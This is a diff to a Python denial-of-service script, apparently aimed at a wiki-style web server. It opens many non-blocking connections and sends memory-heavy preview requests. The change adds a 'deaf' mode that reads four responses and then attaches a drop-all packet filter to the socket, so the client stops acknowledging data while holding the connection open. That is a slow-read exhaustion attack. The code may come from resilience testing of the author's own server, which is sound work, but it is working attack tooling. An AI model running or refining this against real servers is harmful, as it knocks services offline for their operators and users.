@@ -5,11 +5,13 @@
 Prints the fate of the connections as JSON. Each is attempted once; one that the server closes is not opened again.
 """
 
+import ctypes
 import errno
 import json
 import resource
 import select
 import socket
+import struct
 import sys
 import time
 
@@ -20,6 +22,12 @@ IP_BIND_ADDRESS_NO_PORT = 24
 
 # The kinds that send their request again after each answer, on the same connection.
 REPEATING = ("calls", "meta", "creates", "retitles", "previews", "forms", "untitled")
+
+# The kind that reads this many answers, so that the server sends the next at once, and then acknowledges nothing more.
+DEAF, HEARD = "deaf", 4
+SO_ATTACH_FILTER = 26
+DROP_ALL = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
+FILTER = struct.pack("HL", 1, ctypes.addressof(DROP_ALL))
 
 # Among the texts that take a renderer the most memory.
 TEXT = "<a@b.c>" * 14_000
@@ -66,12 +74,13 @@ def request(kind, host, page):
         fields = {"content": TEXT, "action": "preview"}.items()
         parts = [f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n' for name, value in fields]
         return whole("POST", "/", "".join(parts) + "--b--\r\n", "Content-Type: multipart/form-data; boundary=b", "Accept: text/html")
-    return head("GET", {"idle": "/robots.txt", "html": f"/{page}", "json": f"/api/pages/{page}"}[kind])
+    return head("GET", {"idle": "/robots.txt", DEAF: f"/{page}.md", "html": f"/{page}", "json": f"/api/pages/{page}"}[kind])
 
 
 class Connection:
     def __init__(self, attack, source):
         self.attack, self.left, self.state, self.got, self.expected = attack, attack.request, "connecting", b"", None
+        self.answers = 0
         self.socket = socket.socket()
         self.socket.setblocking(False)
         self.socket.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
@@ -169,7 +178,7 @@ class Attack:
 
     def take(self, one, data):
         """Takes a part of an answer. If the attack repeats, a complete answer leads to the next request."""
-        if self.kind not in REPEATING:
+        if self.kind not in (*REPEATING, DEAF):
             if not one.got:
                 one.got = data[:12]
                 self.count(data[9:12].decode("latin-1"))
@@ -187,6 +196,9 @@ class Attack:
         one.expected -= len(data)
         if one.expected <= 0:
             self.answers += 1
+            one.answers += 1
+            if self.kind == DEAF and one.answers == HEARD:
+                one.socket.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, FILTER)
             one.got, one.expected, one.left, one.state = b"", None, self.request, "sending"
             one.write()
 
